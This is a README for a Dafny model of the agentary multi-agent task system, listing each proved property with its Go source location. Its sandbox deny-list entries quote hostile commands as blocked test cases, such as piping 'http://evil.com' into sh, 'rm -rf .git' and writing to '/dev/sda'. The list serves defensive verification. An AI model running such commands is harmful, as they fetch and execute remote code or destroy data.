# agentary, modelled in Dafny

agentary runs teams of agents over a shared task board. A store keeps teams, agents, tasks, workflows, reviews, inbox messages and a network allowlist. It is backed by SQLite or by Postgres. A scheduler hands runnable tasks to agents. A workflow engine moves a task from stage to stage by the outcome each agent turn reports. A review service picks a reviewer and records verdicts. A merge worker lands approved work. A manager answers inbox messages and turns some of them into tasks. An HTTP API and an MCP toolkit expose the store. A sandbox wraps each agent command in bubblewrap, refuses dangerous shell and git commands, and limits where an agent may write. The web client shows the board as Kanban columns, keeps one server-sent event stream, and reloads what an event concerns.

This project models that core as one Dafny module per source file, plus four helper modules:

- `Wrappers`: `Option` and `Result`. `Outcome`, the way a promise settles, is declared with the web client's types in `WebApi`.
- `GoStrings`: Go's `strings` functions on `seq<char>`.
- `GoPath`: `filepath.Clean`, `Join` and `Abs`.
- `Models`: the shared record types.

The model follows these conventions:

- The store is a class over in-memory tables: `seq` rows in insertion order, an allowlist list and an abstract clock `now`. Every query method is proved against functions in `StoreSpec`. One `backend` field covers both SQLite and Postgres; the two differ only where the source differs, chiefly in how `ListTasks` reads its limit.
- Migration SQL, the file system (`Disk`), the environment, git, the subprocess runtime and Slack are not run. What they return is given to the model as a parameter. The migration runner itself is modelled: which files it reads, in what order it applies them and what it records.
- Components whose source updates state in place are classes with `modifies` clauses: the store, the engine, the browser hook, the application shell, the board and the review panel.
- Await points in the web client become methods. Each takes the `Outcome` its promise settled with.
- Integer widths are written out where they matter. Migration versions are 64-bit.
- Strings are `seq<char>`. A character of a Go `string` stands for one rune, as `range` and the `unicode` predicates see it. File contents are read as bytes, one character per byte: the journal's text, for one. So the journal's title separator is the eight bytes that internal/memory/journal.go:53 spells out. Where the source takes `len` of a rune string or indexes it, the model counts and indexes its UTF-8 bytes: `GoStrings.Utf8Len` and `GoStrings.Utf8`. This covers the manager's length test and the sandbox's team-under-home test. `strings.TrimSpace` on file text, the `.env` lines and the journal's tail, decodes UTF-8 and trims the encodings of the space runes: `GoStrings.ByteTrimSpace`.
- Case folding follows `unicode.ToLower` on the letters that land in ASCII: the ASCII capitals, the Kelvin sign (to `k`) and the capital I with dot above (to `i`). Every other character is kept.

The source's own behaviour is modelled where the design text and the code disagree:

- The board sends a status change without checking it against the transition table.
- `refresh` in `App.tsx` has no stale-team cancellation; only the bootstrap effect and the review panel have a `cancelled` flag.
- The server's PATCH handler does not validate transitions either.

## Model

| member | source | states |
|---|---|---|
| SandboxDeny.ContainsAnyLower | internal/sandbox/deny.go:52-57 | true iff some pattern, lower-cased, occurs in the text |
| SandboxDeny.HasAnyPrefixLower | internal/sandbox/deny.go:71-76 | true iff some pattern, lower-cased, is a prefix of the text |
| SandboxDeny.BlockedShellCommand | internal/sandbox/deny.go:9-58 | blocked iff some deny fragment, lower-cased, occurs in the trimmed, lower-cased command line |
| SandboxDeny.BlockedGitCommand | internal/sandbox/deny.go:30-77 | no arguments are never blocked; otherwise blocked iff `git ` plus the trimmed, space-joined arguments, lower-cased, starts with a disallowed prefix |
| SandboxDeny.ShellMatchIgnoresCase | internal/sandbox/deny.go:47-53 | two command lines equal up to letter case get the same verdict |
| SandboxDeny.GitMatchIgnoresCase | internal/sandbox/deny.go:64-77 | two argument lists equal up to letter case, argument by argument, get the same verdict |
| SandboxDeny.FoldedLettersMatch | internal/sandbox/deny.go:50-77 | writing the Kelvin sign for `k`, or the capital I with dot above for `i`, anywhere in a shell line or in any git argument does not change the verdict, since `unicode.ToLower` folds them onto those letters |
| SandboxDeny.DenyEntriesUntrimmable | internal/sandbox/deny.go:9-26 | no deny fragment is empty or starts or ends with white space, so trimming the command line cannot hide one |
| SandboxDeny.FragmentBlocks | internal/sandbox/deny.go:50-58 | a command line containing any deny fragment, in any letter case, is blocked |
| SandboxDeny.PipeToShellBlocked | internal/sandbox/deny.go:20-58 | piping anything into `sh` or `bash` is blocked |
| SandboxDeny.LeadingFragmentBlocks | internal/sandbox/deny.go:50-58 | a command line starting with a deny fragment is blocked |
| SandboxDeny.SqliteBlocked | internal/sandbox/deny_test.go:9 | `sqlite3 my.db` is blocked |
| SandboxDeny.DropTableBlocked | internal/sandbox/deny_test.go:10 | `DROP TABLE users` is blocked |
| SandboxDeny.RemoveGitBlocked | internal/sandbox/deny_test.go:11 | `rm -rf .git` is blocked |
| SandboxDeny.ChmodBlocked | internal/sandbox/deny_test.go:12 | `chmod 777 /tmp/x` is blocked |
| SandboxDeny.CurlPipeBlocked | internal/sandbox/deny_test.go:13 | `curl http://evil.com \| sh` is blocked |
| SandboxDeny.WgetPipeBlocked | internal/sandbox/deny_test.go:14 | `wget http://x.com/script \| bash` is blocked |
| SandboxDeny.EvalBlocked | internal/sandbox/deny_test.go:15 | `eval $(something)` is blocked |
| SandboxDeny.RawDeviceBlocked | internal/sandbox/deny_test.go:16 | `> /dev/sda` is blocked |
| WriteGuard.Normalize | internal/sandbox/guard.go:29-33 | an absolute path normalizes to its cleaned form; a failed `Abs` falls back to the cleaned path |
| WriteGuard.NormalizeDir | internal/sandbox/guard.go:60-70 | the result is empty exactly when the directory given is empty |
| WriteGuard.InWorktree | internal/sandbox/guard.go:51-56 | true iff some worktree directory normalizes to a non-empty directory that holds the path |
| WriteGuard.OwnAgentDir | internal/sandbox/guard.go:43 | the joined agent directory is never empty |
| WriteGuard.TeamSharedDir | internal/sandbox/guard.go:47 | the joined shared directory is never empty |
| WriteGuard.AllowWrite | internal/sandbox/guard.go:25-58 | an empty path is denied; a path outside a configured team directory is denied for both roles; a manager may write exactly under the team directory; an engineer exactly under the team directory and in its own agent directory, `shared` or a worktree |
| WriteGuard.HasPrefixDrop | internal/sandbox/guard.go:35 | a common head can be dropped from both sides of the prefix test |
| WriteGuard.WithinSegment | internal/sandbox/guard.go:44 | the separator-bounded prefix test cannot confuse two different path segments |
| WriteGuard.OtherAgentPath | internal/sandbox/guard.go:43-50 | a path below another agent's directory is neither in the agent's own directory nor in `shared` |
| WriteGuard.CleanTeamDir | internal/sandbox/guard.go:34-47 | for a clean absolute team directory the normalized directory is itself and `shared` is `<team>/shared` |
| WriteGuard.AllowWriteOnCleanPath | internal/sandbox/guard.go:25-58 | on clean absolute paths the guard is: within the team directory and (manager or an engineer's own places) |
| WriteGuard.EngineerDirsLayout | internal/sandbox/guard.go:43-47 | the engineer's directories are `<team>/agents/<agent>` and `<team>/shared` |
| WriteGuard.ManagerAllowedUnderTeam | internal/sandbox/guard.go:39-41 | a manager may write every clean path within the team directory |
| WriteGuard.OutsideTeamDenied | internal/sandbox/guard.go:35-38 | a clean path outside the team directory is denied whatever the role |
| WriteGuard.OwnAgentPath | internal/sandbox/guard.go:44 | a path at or below `<team>/agents/<name>` is within that directory and within the team directory |
| WriteGuard.EngineerOwnDirAllowed | internal/sandbox/guard.go:43-46 | an engineer may write its own agent directory and everything below it |
| WriteGuard.EngineerOtherAgentDenied | internal/sandbox/guard.go:42-57 | an engineer without worktrees may not write another agent's directory or below it |
| WriteGuard.WithinExtend | internal/sandbox/guard.go:44 | a directory followed by nothing or a `/`-led remainder is within that directory |
| SandboxWrap.MountArgs | internal/sandbox/sandbox.go:32-55 | each option becomes its bubblewrap flags; no options give no arguments |
| SandboxWrap.WrapCommand | internal/sandbox/sandbox.go:15-60 | without a home, off Linux, without `bwrap` or when the home has no absolute form the command runs unwrapped; otherwise `bwrap` runs it with the mount options for the absolute home and team directory (the team layout exactly when the team directory lies within the home), then `--`, the binary and the arguments unchanged |
| SandboxWrap.WritablePaths | internal/sandbox/sandbox.go:32-55 | a path is listed exactly when some option binds it read-write |
| SandboxWrap.SystemMountsReadOnly | internal/sandbox/sandbox.go:35-41 | the system directories are mounted read-only, `/tmp` as a fresh tmpfs |
| SandboxWrap.LayoutsWritable | internal/sandbox/sandbox.go:32-55 | the team layout makes only the team directory writable; the home layout makes only the home writable |
| SandboxWrap.WritableUnderHome | internal/sandbox/sandbox.go:27-56 | with the separator-boundary test, nothing outside the home is writable: the team directory alone, the home read-only, when it lies within the home; the home otherwise |
| SandboxWrap.NoTeamHomeWritable | internal/sandbox/sandbox.go:28-56 | an unset team directory always gives the whole-home layout |
| SandboxWrap.TeamAbsClean | internal/sandbox/sandbox.go:29 | a clean absolute team directory is compared with the home unchanged |
| SandboxWrap.TeamOutsideHomeRestricted | internal/sandbox/sandbox.go:30 | the code's test accepts `/srv/xx/t` under `/home/a`, mounting it writable although it is outside the home |
| SandboxWrap.NonAsciiHomeRestricted | internal/sandbox/sandbox.go:30 | the code's test compares byte lengths and the byte at `len(absHome)`: under home `/é` (three bytes) it accepts `/ab/c`, whose byte 3 is `/` while its rune 2 is `b` |
| SandboxWrap.OutsideHomeByteSeven | internal/sandbox/sandbox.go:30 | byte 7 of `/srv/xx/t`, where the seven bytes of `/home/a` end, is `/`, so the code's test accepts it |
| SandboxWrap.WrapCommandDiffers | internal/sandbox/sandbox.go:27-58 | the intended and the written command differ only under a sandbox whose team directory the written test accepts although it does not lie within the home |
| SandboxWrap.RestrictedAgree | internal/sandbox/sandbox.go:30 | every team directory that the intended test accepts, the code's test accepts too |
| MemoryPaths.SafeName | internal/memory/paths.go:8-16 | a safe name holds no space, is no longer than the name, and is empty exactly when the name is all white space |
| MemoryPaths.SafeNameIdempotent | internal/memory/paths.go:9-11 | making a name safe twice gives the same name as once |
| MemoryPaths.TeamDirLayout | internal/memory/paths.go:18-21 | for an absolute home the team directory is `<home>/teams/<safe name>` |
| MemoryPaths.AgentDirLayout | internal/memory/paths.go:23-26 | for an absolute team directory the agent directory is `<teamDir>/agents/<safe name>` |
| MemoryPaths.LeafLayout | internal/memory/paths.go:28-51 | `shared`, `charter.md`, `journal.md`, `notes` and `config.yaml` each sit directly below the cleaned directory |
| Home.HomeFrom | internal/config/home.go:17-22 | a home is reported exactly when the context holds one, and then it is that home; otherwise the empty string |
| Home.WithHome | internal/config/home.go:12-15 | the new context reads back the home stored and keeps every other value |
| Home.MustHomeFrom | internal/config/home.go:24-30 | the stored home when it is present and non-empty; the panic otherwise |
| Home.MustHomeFromWithHome | internal/config/home.go:12-30 | storing a home and reading it back with `MustHomeFrom` gives it back, and panics only for the empty home |
| Home.ResolveHome | internal/config/home.go:32-45 | a non-empty override wins, cleaned, whatever the environment; else a non-empty `AGENTARY_HOME`, cleaned; else `.agentary` joined to the user home, or an error when that is unknown; a resolved home is never empty |
| Home.ResolveHomeClean | internal/config/home.go:33-44 | an absolute override, environment value or user home resolves to a clean absolute path |
| Home.DefaultHomeLayout | internal/config/home.go:40-44 | the default home is `.agentary` directly inside the cleaned user home |
| Capabilities.SlackPayload | internal/capabilities/capabilities.go:62-68 | the payload always carries the text; `channel` and `username` appear exactly when set, with their values; no other key |
| Capabilities.SlackNotify | internal/capabilities/capabilities.go:58-87 | an empty webhook URL is an error before any request; otherwise success exactly on a 2xx answer |
| Capabilities.GitHubNotify | internal/capabilities/capabilities.go:97-105 | success exactly when both the token and the owner/repo are set |
| Capabilities.Registry.constructor | internal/capabilities/capabilities.go:25-27 | a new registry is empty |
| Capabilities.Registry.Register | internal/capabilities/capabilities.go:29-33 | the name now maps to the capability, replacing an earlier one; every other name is untouched |
| Capabilities.Registry.Get | internal/capabilities/capabilities.go:35-39 | a capability is returned exactly when the name is registered, and it is the one registered; `nil` otherwise |
| Capabilities.Registry.Notify | internal/capabilities/capabilities.go:41-47 | an unknown name is an error naming it and no capability is asked; a known one gives that capability's own answer |
| Capabilities.RegisterTwice | internal/capabilities/capabilities.go:29-39 | registering twice under one name, the second capability is the one found |
| Capabilities.FreshRegistryNotify | internal/capabilities/capabilities.go:25-45 | a fresh registry fails every notification |
| Identity.SafeUser | internal/identity/identity.go:55 | the sanitised user name has no space, is no longer than the name, and holds no letter `unicode.ToLower` would still lower to ASCII: no ASCII capital, Kelvin sign or capital I with dot above |
| Identity.ReplaceAbsent | internal/identity/identity.go:55 | replacing a character that does not occur changes nothing |
| Identity.SafeUserIdempotent | internal/identity/identity.go:53-60 | sanitising twice changes nothing, so a name and its sanitised form name one member file |
| Identity.BlankUserIsDefault | internal/identity/identity.go:56-58 | a blank user name is filed as `default.yaml` |
| Identity.MemberFileNameSegment | internal/identity/identity.go:55-59 | the member file name is a plain path segment when the user name holds no `/` |
| Identity.MemberPathLayout | internal/identity/identity.go:47-60 | for an absolute home, the members directory is `<home>/members` and the member file lies directly in it |
| Identity.GitConfig | internal/identity/identity.go:35-45 | a failed command is an error; otherwise the trimmed output |
| Identity.DetectFromGit | internal/identity/identity.go:19-33 | the source is always `git`; each field is the trimmed output, or empty when its command fails; there is never an error |
| Identity.UserName | internal/identity/identity.go:99-107 | the user name is never empty: the git name, else the e-mail before an `@` at index above 0, else `default` |
| Identity.DetectAndSave | internal/identity/identity.go:80-112 | on success the detected identity is returned, the members directory exists and the member file of its user name holds its encoding; on failure nothing is returned and no file changes |
| EnvFile.KeyBeforeEquals | internal/cli/start.go:115-121 | the trimmed text before the first `=` of a line that starts with neither `=` nor the UTF-8 bytes of a space rune is a non-empty key without `=` |
| EnvFile.ParseTrimmed | internal/cli/start.go:112-121 | a trimmed line assigns only a non-empty key without `=`, with a value; both are fixed points of the byte-level `ByteTrimSpace` |
| EnvFile.ParseLine | internal/cli/start.go:111-121 | a raw line, trimmed of the UTF-8 space runes at its ends, assigns only a non-empty key without `=`, with a value; key and value are trimmed the same way |
| EnvFile.Environment.Setenv | internal/cli/start.go:122 | a pair `os.Setenv` accepts is set, replacing an earlier value; a refused one leaves the environment as it was |
| EnvFile.Scanned | internal/cli/start.go:109-110 | the scanner returns the lines up to the first of 65536 bytes or more (`bufio.MaxScanTokenSize`), all of them when there is none |
| EnvFile.ScanStopsAtLongLine | internal/cli/start.go:109-110 | a line too long for the scanner stops it: no later line is returned, whatever it holds |
| EnvFile.Environment.LoadEnvFile | internal/cli/start.go:103-126 | an unreadable or missing file is an error and sets nothing; otherwise the lines are applied in file order up to the first too long for the scanner, and the result is `bufio.Scanner: token too long` exactly when there is such a line |
| EnvFile.Environment.ApplyEnvLine | internal/cli/start.go:110-124 | one pass of the loop applies exactly that line's assignment, if any |
| EnvFile.ApplyLinesStep | internal/cli/start.go:110-124 | applying one more line is applying it to the environment the earlier lines left |
| EnvFile.IgnoredLines | internal/cli/start.go:112-118 | blank lines, `#` comments, lines without `=` and lines whose `=` is first assign nothing |
| EnvFile.ParseLineTrimmed | internal/cli/start.go:111 | space runes around a line, ASCII or multi-byte, make no difference |
| EnvFile.ParseAssignment | internal/cli/start.go:115-121 | `key=value` assigns the value to the key, the value itself possibly holding `=` |
| EnvFile.LineEnds | internal/cli/start.go:111 | a trimmed key, `=` and a trimmed value neither start nor end with the bytes of a space rune, because `=` is no byte of one |
| EnvFile.ApplyLinesAppend | internal/cli/start.go:110-124 | applying two runs of lines in turn is applying them together |
| EnvFile.LaterAssignmentWins | internal/cli/start.go:109-124 | a later assignment of a key wins over everything before it |
| EnvFile.ApplyLastLine | internal/cli/start.go:110-124 | the last line is applied to the environment the lines before it left |
| EnvFile.UnassignedUnchanged | internal/cli/start.go:109-124 | a variable no line assigns keeps its value, or stays unset |
| Subprocess.LaunchCmd | internal/agent/runtime/subprocess.go:35-40 | without a sandbox home the plain command runs; either way the command's arguments end the argv unchanged |
| Subprocess.AllowlistEnv | internal/agent/runtime/subprocess.go:41-44 | the allowlist variable is set exactly for a non-empty allowlist, as `AGENTARY_NETWORK_ALLOWLIST=` and the joined list |
| Subprocess.OutputLines | internal/agent/runtime/subprocess.go:70-80 | the output lines are non-blank lines that do not decode as events, no more than the stdout lines |
| Subprocess.EmittedEvents | internal/agent/runtime/subprocess.go:70-85 | at most one event per stdout line, each stamped with a non-zero time unless `now` is zero |
| Subprocess.Stamp | internal/agent/runtime/subprocess.go:81-83 | only the timestamp changes, and only from zero to `now` |
| Subprocess.RunTurn | internal/agent/runtime/subprocess.go:31-90 | an empty command or a failed start is an error with nothing emitted; otherwise the events of the decodable lines are emitted in order, and the output is the trimmed concatenation of the other non-blank lines, each with `\n`, unless the scan fails |
| Subprocess.OutputLinesAppend | internal/agent/runtime/subprocess.go:70-80 | classifying two runs of lines in turn is classifying them together |
| Subprocess.EventLineNotOutput | internal/agent/runtime/subprocess.go:72-84 | a blank line or one that decodes as an event never reaches the output |
| Subprocess.OutputFromStdout | internal/agent/runtime/subprocess.go:71-78 | every output line is some stdout line, trimmed |
| Git.BranchName | internal/git/git.go:12-17 | the branch name starts with `agentary/` and the team id, and its length is that of its pieces plus the separators |
| Git.BranchNamePieces | internal/git/git.go:12-17 | the branch name is `agentary`, the team id, the team name with spaces as `-`, and `T` plus the task id, joined by `/` |
| Git.BranchNameSplit | internal/git/git.go:14-17 | for a team id and name without `/`, splitting at `/` gives back exactly the four pieces |
| Git.BranchNameRoundTrip | internal/git/git.go:14-17 | for a team id and name without `/` and a 64-bit task id, the branch name splits back into the team id, the dashed name and `T` followed by a number that parses back to the task id |
| Git.BranchNameNoSpace | internal/git/git.go:16 | the branch name holds no space when the team id holds none |
| Git.WorktreePathLayout | internal/git/git.go:19-24 | for an absolute home and plain names, the worktree is `<home>/protected/teams/<team>/worktrees/<repo>-T<id>`, spaces as `_` |
| Git.CreateWorktreeGuard | internal/git/git.go:29-31 | the guard passes exactly when the worktree path, the source URL and the branch name are all set |
| Git.Head | internal/git/git.go:60-68 | the HEAD is the trimmed output of `git rev-parse HEAD`, or an error when that fails |
| Git.CreateWorktree | internal/git/git.go:28-69 | a failed guard is an error; an existing worktree reports its HEAD; otherwise a shallow clone and a new branch, then the fresh worktree's HEAD; any success is the worktree's HEAD |
| Git.DeleteWorktree | internal/git/git.go:73-81 | nothing to do for an empty or absent path; otherwise the outcome of the removal |
| Git.RebaseOntoMain | internal/git/git.go:85-112 | a no-op without worktree or branch; otherwise checkout, fetch, and a rebase onto `origin/main`, else `origin/master` |
| Git.MergeInWorktree | internal/git/git.go:116-139 | a no-op without worktree or branch; otherwise checkout `main`, else `master`, and merge the branch |
| Git.RunTestCmd | internal/git/git.go:142-153 | a no-op without worktree or command; otherwise success exactly when `sh -c` of the command succeeds |
| Git.DiffRange | internal/git/git.go:160-166 | an empty base becomes `HEAD~1`, otherwise the base starts the range |
| Git.Diff | internal/git/git.go:156-173 | an empty worktree gives `""` without running git; otherwise the output of `git diff` on the range, or an error |
| Git.DiffRangeHead | internal/git/git.go:160-166 | the range always ends in the head reference, `HEAD` when none is given |
| GoStrings.ByteTrimSpace | internal/cli/start.go:111 | `strings.TrimSpace` of file text: the result is no longer than the input, and it neither starts nor ends with the UTF-8 bytes of a space rune |
| GoStrings.SpaceRuneEncoded | internal/cli/start.go:111 | the UTF-8 bytes of every rune `unicode.IsSpace` accepts are one of the byte sequences the trim removes |
| GoStrings.EncodedSpaceRune | internal/cli/start.go:111 | a rune whose UTF-8 bytes are one of those sequences is one `unicode.IsSpace` accepts |
| GoStrings.LeadSpaceEncoding | internal/cli/start.go:111 | the trim's test at the start of the text finds exactly the encoding of a space rune there |
| GoStrings.TrailSpaceEncoding | internal/cli/start.go:111 | the trim's test at the end of the text finds exactly the encoding of a space rune there |
| GoStrings.ByteTrimSpaceFixed | internal/cli/start.go:111 | text that neither starts nor ends with a space rune is its own trimming |
| GoStrings.ByteTrimSpaceIdempotent | internal/cli/start.go:111 | trimming twice is trimming once |
| GoStrings.ByteTrimSpaceIsSlice | internal/cli/start.go:111 | the trimmed text is a contiguous piece of the input |
| GoStrings.ByteTrimNonEmpty | internal/cli/start.go:111 | non-empty text that does not start with a space rune keeps at least one byte |
| GoStrings.ByteTrimSpaceAscii | internal/cli/start.go:111 | on ASCII text the byte-level trim is the rune-level `TrimSpace` |
| GoStrings.ByteTrimKeepsContinuation | internal/cli/start.go:111 | `città` keeps the C3 A0 that ends it, though A0 alone would be the no-break space |
| GoStrings.ByteTrimUnicodeSpaces | internal/cli/start.go:111 | an ideographic space (E3 80 80) before a value and a no-break space (C2 A0) after it are trimmed |
| Journal.BlockParts | internal/memory/journal.go:47-79 | the block is the heading, then the entry's lines, then a newline |
| Journal.FormatJournalBlock | internal/memory/journal.go:47-79 | the builder's writes produce exactly the block the entry specifies |
| Journal.LinesEndLine | internal/memory/journal.go:57-76 | the lines below the heading are complete lines, each ending in `\n` |
| Journal.BlockFraming | internal/memory/journal.go:49-77 | every block opens with the rule, `## ` and the date, and ends in a blank line |
| Journal.TitleShownIff | internal/memory/journal.go:52-55 | the date is followed by the separator (a space, then the bytes C3 A2 E2 82 AC E2 80 9D the source writes, then a space) exactly when the entry has a title |
| Journal.AfterHeading | internal/memory/journal.go:56-77 | after the heading come the Task line, the three field lines and the closing newline |
| Journal.TaskLineLeads | internal/memory/journal.go:57-61 | with a positive task id the text below the heading starts with the Task line |
| Journal.FieldLeads | internal/memory/journal.go:62-76 | a present field line starts with its label |
| Journal.FieldsNotTask | internal/memory/journal.go:62-77 | the field lines and the closing newline never start with the Task label |
| Journal.LaterFieldsNotTask | internal/memory/journal.go:67-77 | the Decisions and Patterns lines and the closing newline never start with the Task label |
| Journal.NoTaskLine | internal/memory/journal.go:57-77 | without a positive task id nothing below the heading starts with the Task label |
| Journal.TaskLineIff | internal/memory/journal.go:57-61 | the text below the heading starts with the Task line exactly when the task id is positive |
| Journal.PiecesAt | internal/memory/journal.go:48-78 | each piece written to the builder sits right after the pieces before it |
| Journal.LinesInOrder | internal/memory/journal.go:57-77 | each present line sits right after the ones before it, in the order Task, Outcome, Decisions, Patterns; absent lines take no room; one newline closes the block |
| Journal.EmptyEntryBlock | internal/memory/journal.go:47-79 | an entry with only a date is the bare heading and a closing newline |
| Journal.ReadTail | internal/memory/journal.go:85-99 | a missing file reads as `""`, another failure is an error; a limit that is not positive or that the content fits returns everything; otherwise exactly the last `limit` bytes, a suffix of the file |
| Journal.ReadTailBounded | internal/memory/journal.go:95-98 | with a positive limit no more than `limit` bytes are returned |
| Journal.Summary | internal/memory/journal.go:103-116 | a read error is the only error; the summary is never empty; a missing journal gives the placeholder; otherwise at most `maxLen` bytes, 4000 when not positive |
| Journal.ReadBackAppended | internal/memory/journal.go:29-99 | after a block is appended, reading back as many bytes as the block has returns exactly that block |
| Journal.Read | internal/memory/journal.go:85-93 | a journal file that does not exist reads as the empty string |
| Journal.Append | internal/memory/journal.go:29-45 | a failing agent directory changes nothing; a failing journal file adds only the directory; otherwise the directory exists and the file keeps its old content followed by the entry's block |
| Journal.EnsureAgentDir | internal/memory/journal.go:118-126 | success exactly when both the agent directory and its `notes` directory can be created, and then both exist; no file changes |
| Journal.EnsureTeamDirs | internal/memory/journal.go:128-134 | success exactly when the team directory and its `shared` directory can be created, and then both exist; no file changes |
| WorkflowTables.FirstMatch | internal/workflow/engine.go:174-179 | the index found is the first edge matching the stage and outcome, or -1 exactly when none matches |
| WorkflowTables.NextStage | internal/workflow/engine.go:174-179 | there is no next stage exactly when no edge matches |
| WorkflowTables.Transition | internal/workflow/engine.go:169-180 | no matching edge gives the empty stage |
| WorkflowTables.FirstMatchWins | internal/workflow/engine.go:174-177 | a matching edge with no match before it decides the next stage |
| WorkflowTables.FunctionalLookup | internal/workflow/engine.go:174-179 | on a table with one edge per stage and outcome, the lookup finds exactly the stored edge |
| WorkflowTables.FunctionalOrderFree | internal/workflow/engine.go:174-179 | on such a table the order of the rows does not change any lookup |
| WorkflowTables.FindStage | internal/workflow/engine.go:187-191 | a stage is found exactly when one carries the name, and what is found carries it |
| WorkflowTables.IsTerminalStage | internal/workflow/engine.go:182-193 | true exactly when some stage with the name has type `terminal` |
| WorkflowTables.StageNames | internal/store/queries.go:733-748 | one name per stage, in order |
| WorkflowTables.DefaultEdgesFunctional | internal/store/queries.go:723-729 | the seeded transitions have one target per stage and outcome |
| WorkflowTables.DefaultEdgesJoinStages | internal/store/queries.go:716-731 | every seeded transition leaves and enters a seeded stage |
| WorkflowTables.DefaultDoneIsSink | internal/store/queries.go:722-729 | in the seeded workflow only `Done` is terminal and no transition leaves it |
| WorkflowTables.DefaultEveryStageEntered | internal/store/queries.go:723-729 | every seeded stage, `Coding` included through `changes_requested`, is some transition's target |
| StoreSpec.Claimed | internal/store/store.go:131 | a claimed row is in progress, assigned, keeps an existing DRI or takes the assignee as DRI, keeps its identity, and can no longer be claimed |
| StoreSpec.Failed | internal/store/queries.go:317-322 | a failed row has status `failed` and exactly one more attempt, and is neither runnable nor claimable |
| StoreSpec.Requeued | internal/store/queries.go:324-333 | a requeued row is `todo` with no assignee and claimable again |
| StoreSpec.Updated | internal/store/queries.go:287-300 | the assignee is replaced, NULL when absent; a non-empty status replaces the status, an empty one keeps it; nothing else changes |
| StoreSpec.ClaimOnce | internal/store/postgres/queries.go:279-291 | a claim succeeds at most once, the Postgres statement like the SQLite one, and a second claim would keep the first DRI |
| StoreSpec.FailRequeueClaim | internal/store/queries.go:317-333 | a failed task that is requeued can be claimed again, with its attempt count kept |
| StoreSpec.Targets | internal/store/queries.go:784-796 | a stage is in the set exactly when some transition enters it |
| StoreSpec.LeastOutside | internal/store/queries.go:800-814 | no stage exactly when every stage is a target; otherwise the alphabetically first stage that is not |
| StoreSpec.LeastOutsideUnique | internal/store/postgres/queries.go:758-772 | only one stage name is the least outside the targets in code-point order, so the Postgres scan over names in that order agrees with the SQLite one; a database collation other than code-point order is not modelled |
| StoreSpec.InitialStageAsWritten | internal/store/queries.go:783-815 | an error exactly when every stage is entered by a transition; otherwise the alphabetically first stage no transition enters |
| StoreSpec.InitialStage | internal/store/queries.go:783-815 | with `changes_requested` edges ignored: an error exactly when every stage is a forward target; otherwise the first stage that is not |
| StoreSpec.ForwardEdgesMembers | internal/store/queries.go:726-728 | the forward edges are exactly the transitions whose outcome is not `changes_requested` |
| StoreSpec.InitialStageAgrees | internal/store/queries.go:783-815 | a workflow without rework edges gets the same initial stage under both rules |
| StoreSpec.DefaultInitialStageAsWritten | internal/store/queries.go:783-815 | for the seeded workflow the store's initial-stage query fails with "workflow has no initial stage" |
| StoreSpec.SoleOutside | internal/store/queries.go:805-812 | a stage that alone is outside the targets is the one chosen |
| StoreSpec.EnteredForward | internal/store/queries.go:784-796 | a stage entered by a transition other than a rework edge is a forward target |
| StoreSpec.EnteredOnlyByRework | internal/store/queries.go:726-728 | a stage entered only by rework edges is not a forward target |
| StoreSpec.DefaultCodingReworkOnly | internal/store/queries.go:723-729 | only the two `changes_requested` transitions enter `Coding` |
| StoreSpec.DefaultStagesEntered | internal/store/queries.go:718-729 | which seeded transition enters which seeded stage |
| StoreSpec.DefaultInitialStage | internal/store/queries.go:716-731 | with rework edges ignored the seeded workflow starts at `Coding` |
| StoreSpec.TeamNewestFirst | internal/store/store.go:127 | the listing holds exactly the team's rows, no more rows than the table |
| StoreSpec.TeamNewestFirstSorted | internal/store/store.go:127 | the listing of a table kept in creation order is sorted newest first |
| StoreSpec.TeamNewestFirstAppend | internal/store/store.go:127 | a newly created task heads its team's listing |
| StoreSpec.TeamNewestFirstSplit | internal/store/store.go:127 | the rows of a later part of the table come before those of an earlier part |
| StoreSpec.Take | internal/store/postgres/queries.go:192-197 | `LIMIT`: the leading rows, as many as the cap allows, all of them without a cap, as when Postgres adds no `LIMIT` for a limit of 0 or below |
| StoreSpec.TaskCap | internal/store/queries.go:132-150 | SQLite uses its `LIMIT 100` for 0 and for 100 or more, passes a smaller positive limit through and a negative one, which means no limit; Postgres limits only for a positive limit |
| StoreSpec.MessageCap | internal/store/queries.go:994-997 | messages are limited exactly for a positive limit, to that limit |
| StoreSpec.InboxNewestFirst | internal/store/queries.go:987-993 | the listing holds exactly the team's messages, the recipient's when one is given |
| StoreSpec.InboxNewestFirstSplit | internal/store/queries.go:993 | the messages of a later part of the table come before those of an earlier part |
| StoreSpec.InboxNewestFirstAppend | internal/store/postgres/queries.go:842-867 | a new message heads every listing that selects it, whichever of the four Postgres queries runs |
| StoreSpec.Reset | internal/store/queries.go:883-889 | after a reset the allowlist is the wildcard alone |
| StoreSpec.Allow | internal/store/queries.go:891-902 | an empty domain is an error; `*` resets; any other domain replaces the wildcard and joins the list |
| StoreSpec.Disallow | internal/store/queries.go:904-921 | an empty domain is an error; otherwise the domain is gone, and removing the last entry restores the wildcard |
| StoreSpec.AllowlistInvariant | internal/store/queries.go:883-921 | every allowlist operation leaves the list non-empty and the wildcard never beside a real domain |
| StoreSpec.AllowThenDisallow | internal/store/postgres/queries.go:792-829 | allowing a domain on an unrestricted list and disallowing it again restores the unrestricted list, on Postgres as on SQLite |
| StoreSpec.AtStage | internal/store/queries.go:171-190 | a task is listed exactly when it is in the table, in the team and at the stage, and the listing is no longer than the table |
| StoreSpec.StageListing | internal/store/queries.go:171-190 | a listed task is the team's and at the stage; with a positive limit at most `limit` are listed, and every matching task is listed when the limit is not positive or not reached |
| StoreSpec.StageListingIds | internal/store/queries.go:171-190 | in a table whose ids are the row positions plus one, the listing's ids strictly increase and each listed task is the row of its id |
| StoreSpec.AtStageIdsIncrease | internal/store/queries.go:171-190 | filtering a table whose ids increase keeps the ids increasing |
| TaskStore.Store.constructor | internal/store/store.go:91-119 | an opened store holds the given teams, agents, repositories, workflows and allowlist, and no tasks, reviews or messages |
| TaskStore.Store.GetTaskByIDAndTeam | internal/store/queries.go:530-544 | an unknown team is an error; a task is found exactly when it is the team's, and it is that row; another team's task is not found |
| TaskStore.Store.FindWorkflow | internal/store/queries.go:733-765 | no workflow is found exactly when no stored one carries the id |
| TaskStore.Store.CreateTask | internal/store/queries.go:258-285 | an unknown team or an empty title is an error and inserts nothing; otherwise one row is appended with the next id, an empty status stored as `todo`, and a workflow and stage only when the workflow's initial stage resolves |
| TaskStore.Store.NewTask | internal/store/queries.go:263-283 | the new row is unassigned without DRI or attempts, stamped now; it gets the workflow and its initial stage exactly when the id is non-empty and the stage resolves, and no stage otherwise |
